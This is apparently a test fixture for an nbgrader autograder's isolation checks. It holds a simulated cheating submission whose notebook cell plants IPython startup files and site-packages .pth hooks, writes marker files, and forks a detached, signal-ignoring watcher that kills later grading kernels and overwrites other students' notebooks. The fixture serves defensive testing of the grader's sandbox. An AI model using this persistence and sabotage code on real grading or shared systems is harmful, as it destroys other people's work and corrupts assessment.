"""Cross-student attack, graded first (nbgrader grades students in the sorted order of their
submission folders, hence the ``aaa_`` prefix). Wrong square; the answer cell tries to
persist into the kernels graded after it: IPython startup files, ``.pth`` files in every
site-packages directory it can write, marker files in /tmp, /dev/shm, $HOME and the parent of
its working folder, and a forked watcher process (setsid, signals ignored) that waits for its
kernel to end, then kills later grading kernels and blanks the submissions of the
``zzz_honest_*`` students. ``aaa_2_persist_read`` (graded next) looks for all of it;
``zzz_honest_solution`` / ``zzz_honest_wrong`` (graded last) must score as if alone."""
from course import STRAY_MARKER, with_answers, write_nb

EXPECT = {"test_square": 0, "test_cube": 3, "test_half": 1}
FLAGS = {"tampered"}
EXACT_FLAGS = True

# the places aaa_2_persist_read looks at (shared with it)
MARKER_FILES = ["/tmp/aaa_persist", "/dev/shm/aaa_persist", "~/aaa_persist", "../aaa_persist",
                "../../aaa_persist", "/tmp/aaa_persist_watcher"]
STARTUP_DIRS = ["~/.ipython/profile_default/startup", "$IPYTHONDIR/profile_default/startup",
                "/root/.ipython/profile_default/startup"]

WATCHER = r"""
import os, signal, sys, time
kernel = int(sys.argv[3])
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(s, signal.SIG_IGN)
start = time.time()
while time.time() - start < 240:
    time.sleep(0.2)
    try:
        os.kill(kernel, 0)
        continue                      # my own kernel still runs: wait for it to end
    except OSError:
        pass
    try:
        with open('/tmp/aaa_persist_watcher', 'w') as f:
            f.write('alive %f\n' % time.time())
    except OSError:
        pass
    for p in os.listdir('/proc'):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            cwd = os.readlink('/proc/%s/cwd' % p)
            with open('/proc/%s/cmdline' % p, 'rb') as f:
                cmd = f.read()
        except OSError:
            continue
        for name in ('zzz_honest_solution', 'zzz_honest_wrong'):
            nb = os.path.join(cwd, 'submitted', name, 'ps1', 'mini.ipynb')
            if os.path.exists(nb):
                try:
                    with open(nb, 'w') as f:
                        f.write('{not a notebook any more}')
                except OSError:
                    pass
        if b'ipykernel_launcher' in cmd and b'tp-grade-' in cmd:
            try:
                os.kill(int(p), signal.SIGKILL)   # a later student's grading kernel
            except OSError:
                pass
"""

CHEAT = r'''
import os, signal, sys

def square(x):
    return x * 2

PAYLOAD = "import builtins; builtins.AAA_PERSISTED = 'startup'\n"
written = []
for d in @STARTUP_DIRS@:
    d = os.path.expandvars(os.path.expanduser(d))
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "00-aaa-persist.py"), "w") as f:
            f.write(PAYLOAD)
        written.append(d)
    except OSError:
        pass
for d in sys.path:
    if d.endswith("-packages") or d.endswith("site-packages"):
        try:
            with open(os.path.join(d, "zz_aaa_persist.pth"), "w") as f:
                f.write("import builtins; builtins.AAA_PERSISTED = 'pth'\n")
            written.append(d)
        except OSError:
            pass
for path in @MARKER_FILES@:
    path = os.path.expanduser(path)
    try:
        with open(path, "w") as f:
            f.write("aaa was here\n")
        written.append(path)
    except OSError:
        pass
print("written:", written)

kernel = os.getpid()
if os.fork() == 0:                  # the watcher: double fork, new session, signals ignored
    try:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", WATCHER, "@STRAY@", "aaa_1", str(kernel)])
    finally:
        os._exit(0)
'''.replace("@STARTUP_DIRS@", repr(STARTUP_DIRS)).replace("@MARKER_FILES@", repr(MARKER_FILES)) \
   .replace("@STRAY@", STRAY_MARKER)
CHEAT = "WATCHER = " + repr(WATCHER) + "\n" + CHEAT


def submit(release, folder):
    write_nb(folder, with_answers(release, square=CHEAT))
